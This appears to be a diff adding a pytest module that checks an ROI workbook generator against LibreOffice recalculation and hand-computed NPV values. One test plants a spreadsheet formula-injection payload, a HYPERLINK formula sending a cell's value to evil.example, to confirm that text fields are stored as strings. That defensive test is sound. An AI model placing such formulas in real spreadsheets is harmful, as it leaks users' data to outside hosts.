@@ -1,0 +1,157 @@
+"""The implementation-value workbook, recalculated by LibreOffice (Debian's libreoffice-calc-nogui,
+headless; .ci/run installs it): every formula gives the value the page shows, the NPV is the hand
+value, and a changed input cell changes the results. LibreOffice is the independent oracle: it
+evaluates the formulas itself, not the cached values the file carries."""
+
+from __future__ import annotations
+
+import shutil
+import subprocess
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from tests.hand import roi_npv_by_hand
+from upskill_roi.core.roi import ImplementationInputs, evaluate
+from upskill_roi.documents.workbook import InputRow, implementation_rows, implementation_workbook
+from upskill_roi.inputs.declared import ROI_INPUTS
+
+# LibreOffice keeps an .xlsx file's cached results unless told to recalculate on load: this profile
+# says "always" (Tools > Options > Calc > Formula > Recalculation on file load).
+PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
+ xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
+<value>0</value></prop></item>
+</oor:items>
+"""
+
+
+@pytest.fixture(scope="module")
+def recalc(tmp_path_factory):
+    """``recalc(path) -> path``: the workbook as LibreOffice saves it after recalculating it."""
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        raise RuntimeError("LibreOffice is required: apt-get install libreoffice-calc-nogui (.ci/run does this)")
+    profile = tmp_path_factory.mktemp("lo-profile")
+    (profile / "user").mkdir()
+    (profile / "user" / "registrymodifications.xcu").write_text(PROFILE)
+
+    def run(path: Path) -> Path:
+        out = path.parent / "recalculated"
+        done = subprocess.run([soffice, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
+                               "xlsx", "--outdir", str(out), str(path)], capture_output=True, text=True, timeout=180)
+        assert done.returncode == 0 and (out / path.name).exists(), done.stdout + done.stderr
+        return out / path.name
+    return run
+
+
+def _write(tmp_path: Path, inputs: ImplementationInputs, name: str = "case.xlsx") -> Path:
+    path = tmp_path / name
+    path.write_bytes(implementation_workbook(evaluate(inputs), implementation_rows(inputs, ROI_INPUTS, {}, "USD"),
+                                             "USD"))
+    return path
+
+
+def _summary(path: Path) -> dict[str, tuple[object, object]]:
+    """Result label -> (the formula's value, the app's value) on the Summary sheet."""
+    ws = openpyxl.load_workbook(path, data_only=True)["Summary"]
+    return {row[0]: (row[1], row[2]) for row in ws.iter_rows(min_row=4, values_only=True) if row[0]}
+
+
+def _checks(path: Path) -> dict[str, object]:
+    ws = openpyxl.load_workbook(path, data_only=True)["Checks"]
+    return {row[0]: row[1] for row in ws.iter_rows(min_row=4, values_only=True) if row[0]}
+
+
+CASES = {
+    # (the inputs, the hand NPV of tests/hand.py with the same figures)
+    "defaults": (ImplementationInputs(), roi_npv_by_hand()),
+    "no ramp, 5 years at 12 %": (ImplementationInputs(ramp_months=0, horizon_years=5, discount_rate=0.12),
+                                 roi_npv_by_hand(ramp=0, years=5, rate=0.12)),
+    "never pays back": (ImplementationInputs(annual_savings=60_000), roi_npv_by_hand(savings=60_000)),
+    "in production for sure, no risk": (
+        ImplementationInputs(success_probability=1, benefit_risk=0, cost_risk=0, ramp_months=6, horizon_years=10),
+        roi_npv_by_hand(p=1, b=0, c=0, ramp=6, years=10)),
+}
+
+
+@pytest.mark.parametrize("case", CASES, ids=list(CASES))
+def test_libreoffice_recalculates_every_formula_to_the_page_s_value(case, recalc, tmp_path) -> None:
+    inputs, hand_npv = CASES[case]
+    path = _write(tmp_path, inputs)
+    cached = _summary(path)
+    summary = _summary(recalc(path))
+    assert summary.keys() == cached.keys() and len(summary) == 17
+    for label, (formula, app) in summary.items():
+        if isinstance(app, float | int) and not isinstance(app, bool):
+            assert cached[label][0] == pytest.approx(app, rel=1e-12, abs=1e-9)  # the file opens showing them
+            assert formula == pytest.approx(app, abs=0.01), label
+        else:
+            assert formula == app == cached[label][0], label  # "never", "n/a"
+    assert summary["Net present value"][0] == pytest.approx(hand_npv, abs=0.01)
+    assert set(_checks(recalc(path)).values()) == {"OK"}
+
+
+def test_the_default_case_by_hand(recalc, tmp_path) -> None:
+    """Hand values of the defaults: NPV 582,614.32 (tests/hand.py); payback 5.9 months; net savings
+    500,000 x 0.9 - 50,000 x 1.1 = 395,000 a year; the premium by the rule 10 % of it = 39,500."""
+    summary = _summary(recalc(_write(tmp_path, ImplementationInputs())))
+    assert round(summary["Net present value"][0], 2) == 582_614.32
+    assert round(summary["Payback (months, undiscounted)"][0], 1) == 5.9
+    assert summary["Net savings a year in production"][0] == pytest.approx(395_000)
+    assert summary["Justified premium"][0] == pytest.approx(39_500)
+    assert summary["NPV if it does not"][0] == pytest.approx(-110_000)
+
+
+def _set_input(path: Path, label: str, value: float) -> None:
+    wb = openpyxl.load_workbook(path)
+    ws = wb["Inputs"]
+    (row,) = [r for r in range(4, ws.max_row + 1) if ws.cell(r, 1).value == label]
+    ws.cell(row, 2).value = value
+    wb.save(path)
+
+
+def test_changing_the_discount_rate_cell_changes_the_npv(recalc, tmp_path) -> None:
+    path = _write(tmp_path, ImplementationInputs())
+    _set_input(path, "Discount rate", 0.12)
+    summary = _summary(recalc(path))
+    npv, app = summary["Net present value"]
+    assert npv == pytest.approx(roi_npv_by_hand(rate=0.12), abs=0.01)  # 563,963
+    assert app == pytest.approx(roi_npv_by_hand(), abs=0.01)  # the page's value, kept for the audit
+    checks = _checks(recalc(path))
+    assert checks["Net present value: formula = the app's value"] == "DIFFERS"  # the Checks sheet can fail
+    assert checks["NPV = the sum of the monthly present values"] == "OK"
+
+
+def test_changing_the_horizon_cell_changes_the_months_counted(recalc, tmp_path) -> None:
+    path = _write(tmp_path, ImplementationInputs())
+    _set_input(path, "Horizon", 5)
+    npv = _summary(recalc(path))["Net present value"][0]
+    assert npv == pytest.approx(roi_npv_by_hand(years=5), abs=0.01)
+    _set_input(path, "Horizon", 11)  # beyond what the app accepts (1 to 10)
+    assert _checks(recalc(path))["Horizon: within the accepted range"] == "OUT OF RANGE"
+
+
+def test_text_is_never_a_formula(tmp_path) -> None:
+    """Labels and sources are written as text: one that starts with "=" stays a string."""
+    i = ImplementationInputs()
+    rows = implementation_rows(i, ROI_INPUTS, {}, "USD")
+    rows[0] = InputRow(rows[0].field, '=HYPERLINK("https://evil.example/?x="&B4,"Open")', "USD/yr", "=1+1",
+                       rows[0].value, "assumed", 0.0, 1e8)
+    path = tmp_path / "t.xlsx"
+    path.write_bytes(implementation_workbook(evaluate(i), rows, "USD"))
+    ws = openpyxl.load_workbook(path)["Inputs"]
+    assert ws["A4"].data_type == "s" and ws["A4"].value.startswith("=HYPERLINK")
+    assert ws["G4"].data_type == "s" and ws["G4"].value == "=1+1"
+    assert ws["B4"].data_type == "n"
+
+
+def test_the_inputs_sheet_says_which_inputs_are_the_user_s() -> None:
+    rows = {r.field: r for r in implementation_rows(ImplementationInputs(discount_rate=0.12), ROI_INPUTS,
+                                                     {"rate": 12.0, "savings": 500_000.0}, "EUR")}
+    assert (rows["discount_rate"].status, rows["discount_rate"].value, rows["discount_rate"].unit) == (
+        "your input", 0.12, "%/yr")
+    assert rows["annual_savings"].status == "assumed" and rows["annual_savings"].unit == "EUR/yr"
+    assert "Gartner" in rows["success_probability"].source
